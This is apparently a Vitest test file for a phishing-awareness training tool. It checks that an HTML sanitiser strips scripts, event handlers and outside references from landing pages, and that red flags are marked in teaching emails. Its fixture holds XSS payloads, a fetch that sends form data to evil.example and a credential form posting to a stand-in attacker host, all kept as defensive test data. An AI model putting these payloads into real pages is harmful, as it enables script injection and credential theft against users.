import { describe, expect, it } from 'vitest';
import {
  cleanCss,
  LANDING_PAGE_CSP,
  LANDING_PAGE_HEADERS,
  renderLandingPage,
  renderTeachableEmail,
} from './templates.landing.presenter.js';
import type { EmailVars, RecipientVars } from './templates.render.model.js';

const person: RecipientVars = {
  first_name: 'Alex',
  last_name: 'Rivera',
  email: 'alex@example.com',
  company: 'Acme',
};
const SUBMIT = 'https://phish.example/v/TOKEN';
const render = (page: string, vars: RecipientVars = person) =>
  renderLandingPage(page, vars, { submitUrl: SUBMIT });

// Everything a hostile administrator (or a careless copy of a real sign-in page) could put in.
const HOSTILE = `<!doctype html>
<html lang="en" onload="steal()">
<head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta name="robots" content="index,follow">
<base href="https://evil.example/">
<title>Sign in</title>
<link rel="stylesheet" href="https://evil.example/site.css">
<link rel="icon" href="https://evil.example/favicon.ico">
<style type="text/css">
  @import url(https://evil.example/import.css);
  @import "https://evil.example/import2.css";
  @font-face { font-family: Brand; src: url("https://evil.example/font.woff2") format("woff2"); }
  body { background: url('https://evil.example/bg.png'); }
  .escaped { background: u\\72l(https://evil.example/escaped.png); }
  .set { background-image: image-set("https://evil.example/set.png" 1x); }
  .ok { background: url(data:image/png;base64,iVBORw0KGgo=); }
  .child > p { color: #333; }
</style>
<script src="https://evil.example/app.js"></script>
<script>document.forms[0].onsubmit = () => fetch('https://evil.example/steal');</script>
</head>
<body style="background-image:url(//evil.example/proto.png); color: #222" onload="steal()">
<h1 onclick="steal()">Hello {{first_name}}</h1>
<img src="https://evil.example/pixel.gif" onerror="steal()" alt="tracker">
<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x" alt="set">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">
<a href="javascript:steal()">one</a> <a href=" JaVaScRiPt:steal()">two</a>
<a href="https://evil.example/away">three</a> <a href="#help">help</a>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/movie.swf"></object><embed src="https://evil.example/embed">
<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video>
<form action="https://evil.example/collect" method="get" target="_blank" enctype="text/plain" onsubmit="steal()">
  <input name="username" value="{{email}}" autocomplete="username" onfocus="steal()">
  <input name="password" type="password">
  <button type="submit" formaction="https://evil.example/button">Sign in</button>
</form>
<svg viewBox="0 0 10 10"><style><img src=x onerror=steal()></style>
  <circle cx="5" cy="5" r="4" fill="url(https://evil.example/fill.svg#p)" stroke="url(#local)"/>
  <image href="https://evil.example/svg-image.png"/><use href="https://evil.example/sprite.svg#a"/>
  <a href="javascript:steal()"><text>x</text></a>
  <animate attributeName="href" values="javascript:steal()"/>
</svg>
<div style="background-image: url(&quot;https://evil.example/entity.png&quot;)">text</div>
<meta http-equiv="refresh" content="5; url=https://evil.example/late">
<noscript><img src="https://evil.example/noscript.png"></noscript>
</body>
</html>`;

describe('renderLandingPage', () => {
  const page = render(HOSTILE);

  it('removes every script and event handler', () => {
    expect(page).not.toMatch(/<script/i);
    expect(page).not.toMatch(/\son[a-z]+\s*=/i);
    expect(page).not.toMatch(/javascript:/i);
    expect(page).not.toContain('steal');
  });

  it('removes every reference to another site: images, styles, fonts, frames, links', () => {
    // The only mentions left are inside CSS functions renamed so that the browser ignores them.
    const mentions = [...page.matchAll(/(\S{0,20})\/\/evil\.example/g)].map((m) => m[1]);
    expect(mentions.length).toBeGreaterThan(0);
    for (const before of mentions) expect(before).toContain('removed(');
    expect(page).not.toMatch(/<(iframe|object|embed|video|link|base|image|use|animate)\b/i);
    expect(page).not.toMatch(/@import/i);
    expect(page).not.toMatch(/url\(\s*['"]?\s*(https?:)?\/\//i);
    expect(page).not.toMatch(/image-set\(/i);
    expect(page).not.toContain('srcset');
    // What stays: data: images, fragment links, local SVG references, ordinary CSS.
    expect(page).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo" />');
    expect(page).toContain('url(data:image/png;base64,iVBORw0KGgo=)');
    expect(page).toContain('<a href="#help">help</a>');
    expect(page).toContain('stroke="url(#local)"');
    expect(page).toContain('.child > p { color: #333; }');
  });

  it('removes meta refreshes and the page’s own robots line, and adds noindex', () => {
    expect(page).not.toMatch(/http-equiv/i);
    expect(page).not.toContain('index,follow');
    expect(page.match(/<meta name="robots"[^>]*>/g)).toEqual([
      '<meta name="robots" content="noindex,nofollow">',
    ]);
  });

  it('makes every form post to the submit URL, with autocomplete off', () => {
    expect(page).toContain(`<form action="${SUBMIT}" method="post" autocomplete="off">`);
    expect(page).not.toMatch(/formaction|target=|enctype/i);
    expect(page).toMatch(/<input name="username" value="alex@example.com" autocomplete="off" \/>/);
    expect(page).toMatch(/<input name="password" type="password" autocomplete="off" \/>/);
    const forms = render('<form action="/elsewhere"><input name="a"></form><form><button>Go</button></form>');
    expect(forms.match(/<form [^>]*>/g)).toEqual([
      `<form action="${SUBMIT}" method="post" autocomplete="off">`,
      `<form action="${SUBMIT}" method="post" autocomplete="off">`,
    ]);
  });

  it('is a whole document with the page’s title, styles, language and body style', () => {
    expect(page).toMatch(/^<!doctype html>\n<html lang="en">\n<head>\n<meta charset="utf-8">/);
    expect(page).toMatch(/<head>[\s\S]*<title>Sign in<\/title>[\s\S]*<style>[\s\S]*<\/style>\n<\/head>/);
    expect(page).toContain('<body style="background-image:removed(//evil.example/proto.png); color: #222">');
    expect(page).toMatch(/<\/body>\n<\/html>\n$/);
    const fragment = render('<p>Just a paragraph</p>');
    expect(fragment).toContain('<body>\n<p>Just a paragraph</p>\n</body>');
    expect(fragment).toContain('<meta name="robots" content="noindex,nofollow">');
  });

  it('escapes the person’s values before sanitising', () => {
    const hostile = render('<h1>Hi {{first_name}}</h1><input name="email" value="{{email}}">', {
      ...person,
      first_name: '<script>alert(1)</script>',
      email: '"><img src=x onerror=alert(2)>',
    });
    expect(hostile).toContain('<h1>Hi &lt;script&gt;alert(1)&lt;/script&gt;</h1>');
    // Inside a quoted attribute value, only the quote and the angle brackets need escaping.
    expect(hostile).toContain('value="&quot;&gt;&lt;img src=x onerror=alert(2)&gt;"');
    expect(hostile).not.toMatch(/<img|<script/);
  });

  it('keeps markup from breaking out of an inline SVG style', () => {
    expect(cleanCss('a{}<img src=x>')).toBe('a{}\\3c img src=x>');
  });
});

describe('the landing page’s headers', () => {
  it('allow only inline styles, data: images and forms posting back to the same site', () => {
    expect(LANDING_PAGE_CSP).toContain("default-src 'none'");
    expect(LANDING_PAGE_CSP).toContain('img-src data:');
    expect(LANDING_PAGE_CSP).toContain("form-action 'self'");
    expect(LANDING_PAGE_CSP).toContain("frame-ancestors 'none'");
    expect(LANDING_PAGE_CSP).not.toMatch(/script-src|unsafe-eval/);
    expect(LANDING_PAGE_HEADERS['x-robots-tag']).toBe('noindex, nofollow');
  });
});

describe('renderTeachableEmail', () => {
  const vars: EmailVars = { ...person, link: 'https://phish.example/v/TOKEN', sender_domain: 'mail.example' };
  const email = {
    subject: 'Invoice <b>overdue</b> & final notice',
    sender_name: 'Accounts <Dept>',
    sender_address: 'billing',
    html: '<a href="{{link}}">Pay now</a>',
    text: 'Dear customer,\nPay <now> & avoid fees:\n{{link}}',
    red_flags: [
      { text: 'Threat', part: 'subject' as const, quote: '<b>overdue</b> &' },
      { text: 'Sender', part: 'sender' as const, quote: '<Dept>' },
      { text: 'Greeting', part: 'body' as const, quote: 'Dear customer' },
      { text: 'Link', part: 'link' as const, quote: 'Pay now' },
      { text: 'Missing', part: 'body' as const, quote: 'nowhere to be found' },
    ],
  };

  it('escapes the text first and then marks each quote', () => {
    const teachable = renderTeachableEmail(email, vars);
    expect(teachable.subject_html).toBe(
      'Invoice <mark data-flag="1">&lt;b&gt;overdue&lt;/b&gt; &amp;</mark> final notice',
    );
    expect(teachable.sender_html).toBe(
      'Accounts <mark data-flag="2">&lt;Dept&gt;</mark> &lt;billing@mail.example&gt;',
    );
    // The link's words are not in the text body: the link itself is marked.
    expect(teachable.body_html).toBe(
      '<mark data-flag="3">Dear customer</mark>,\nPay &lt;now&gt; &amp; avoid fees:\n' +
        '<mark data-flag="4">https://phish.example/v/TOKEN</mark>',
    );
  });

  it('lists the flags, saying which were found', () => {
    expect(renderTeachableEmail(email, vars).flags.map((f) => [f.number, f.part, f.marked])).toEqual([
      [1, 'subject', true],
      [2, 'sender', true],
      [3, 'body', true],
      [4, 'link', true],
      [5, 'body', false],
    ]);
  });

  it('marks a link flag in the text when its words are there', () => {
    const teachable = renderTeachableEmail({ ...email, text: 'Pay now: {{link}}' }, vars);
    expect(teachable.body_html).toBe('<mark data-flag="4">Pay now</mark>: https://phish.example/v/TOKEN');
  });

  it('escapes the person’s values and never lets a quote split an entity', () => {
    const teachable = renderTeachableEmail(
      {
        ...email,
        text: 'Hi {{first_name}} & co {{link}}',
        red_flags: [{ text: 'Entity', part: 'body', quote: 'amp;' }],
      },
      { ...vars, first_name: '<img src=x onerror=alert(1)>' },
    );
    expect(teachable.body_html).toBe(
      'Hi &lt;img src=x onerror=alert(1)&gt; &amp; co https://phish.example/v/TOKEN',
    );
    expect(teachable.flags[0]?.marked).toBe(false);
  });
});
